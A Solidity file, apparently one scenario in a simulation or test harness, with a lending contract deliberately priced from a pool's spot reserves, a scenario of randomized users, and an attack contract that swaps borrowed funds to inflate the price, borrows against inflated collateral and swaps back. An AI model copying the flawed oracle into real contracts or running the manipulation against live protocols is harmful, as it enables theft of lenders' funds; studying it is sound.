// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// Lends dollars against a coin whose price it reads off a pool, as it stands.
contract SpotLender {
    IERC20 public immutable coin;
    IERC20 public immutable cash;
    Pair public immutable pair;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;

    event Deposit(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);
    event Borrow(address indexed who, uint256 amount);
    event Repay(address indexed who, uint256 amount);

    constructor(IERC20 coin_, IERC20 cash_, Pair pair_) {
        (coin, cash, pair) = (coin_, cash_, pair_);
    }

    function price() public view virtual returns (uint256) {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        return uint256(r1) * 1e18 / r0;
    }

    function deposit(uint256 amount) external {
        coin.transferFrom(msg.sender, address(this), amount);
        collateral[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        collateral[msg.sender] -= amount;
        require(room(msg.sender) >= 0, "collateral");
        coin.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function room(address who) public view returns (int256) {
        return int256(collateral[who] * price() / 1e18 * 3 / 4) - int256(debt[who]);
    }

    function borrow(uint256 amount) external {
        debt[msg.sender] += amount;
        require(room(msg.sender) >= 0, "collateral");
        cash.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        debt[msg.sender] -= amount;
        cash.transferFrom(msg.sender, address(this), amount);
        emit Repay(msg.sender, amount);
    }
}

contract SpotOracleScene is Scene {
    Token public usd;
    Token public coin = new Token("COIN", 18);
    Pair public pair;
    SpotLender public lender;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(coin), "COIN", 18, 1e6);
        pair = Pairs.open(coin, usd, 400_000e18, 400_000e18);
        lender = new SpotLender(IERC20(address(coin)), IERC20(address(usd)), pair);
        usd.mint(address(lender), 2_000_000e18);
        _protect(address(lender));
        _loan(IERC20(address(usd)), 2_000_000e18);
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(coin));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 500_000e18, address(lender));
        _arm(coin, users, 500_000e18, address(lender));
        _arm(usd, users, 0, address(pair));
        _arm(coin, users, 0, address(pair));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 6;
        uint256 amount = _amount(dice, 100e18, 5_000e18);
        int256 room = lender.room(who);
        uint256 owed = lender.debt(who);
        if (kind == 0) {
            (uint112 r0, uint112 r1,) = pair.getReserves();
            return (address(pair), 0, abi.encodeCall(Pair.trade, (r0 < r1, amount, who)));
        }
        if (kind < 3 && room > 100e18) {
            return (address(lender), 0, abi.encodeCall(SpotLender.borrow, (uint256(room) * (1 + dice % 90) / 100)));
        }
        if (kind == 3 && owed > 0) return (address(lender), 0, abi.encodeCall(SpotLender.repay, (owed)));
        if (kind == 4 && owed == 0 && lender.collateral(who) > 0) {
            return (address(lender), 0, abi.encodeCall(SpotLender.withdraw, (lender.collateral(who))));
        }
        return (address(lender), 0, abi.encodeCall(SpotLender.deposit, (amount)));
    }
}

contract SpotOracleAttack is Attack {
    SpotLender private immutable lender;
    Pair private immutable pair;
    IERC20 private immutable coin;
    IERC20 private immutable cash;

    constructor(SpotOracleScene scene) Attack(scene) {
        (lender, pair) = (scene.lender(), scene.pair());
        (coin, cash) = (lender.coin(), lender.cash());
    }

    function _act(uint256, uint256, uint256 count) internal override {
        cash.approve(address(pair), type(uint256).max);
        coin.approve(address(lender), type(uint256).max);
        uint256 out = pair.trade(false, loanAmount, address(this));
        uint256 put = out / 4;
        lender.deposit(put);
        uint256 want = cash.balanceOf(address(lender)) / count;
        uint256 room = uint256(lender.room(address(this)));
        lender.borrow(room < want ? room : want);
        coin.approve(address(pair), type(uint256).max);
        pair.trade(true, coin.balanceOf(address(this)), address(this));
    }
}
